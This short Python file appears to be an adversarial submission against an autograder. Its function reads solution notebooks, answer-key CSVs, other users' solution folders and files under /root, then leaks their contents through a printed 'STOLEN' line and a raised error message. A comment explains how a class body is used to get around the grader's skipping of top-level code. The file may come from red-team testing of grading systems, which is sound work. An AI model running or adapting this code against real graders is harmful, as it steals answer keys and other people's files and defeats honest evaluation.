"""Reads the solutions and the keys and puts them in its error message."""

import contextlib
import glob
import pathlib


def _attack():
    global path, pattern, stolen
    stolen = []
    for pattern in (
        "__REPO__/solutions/hw2p2_source.ipynb",
        "__KEYS__/cls_test.csv",
        "__REPO__/solutions/*",
        "__KEYS__/*",
        "/work/*/solutions/*",
        "/root/*",
    ):
        for path in glob.glob(pattern):
            with contextlib.suppress(OSError):
                stolen.append(pathlib.Path(path).read_text())
    print("STOLEN:", stolen)
    raise RuntimeError("STOLEN: " + "".join(stolen)[:5000])


class _Armed:  # top-level statements are skipped by the grader; a class body runs
    _attack()
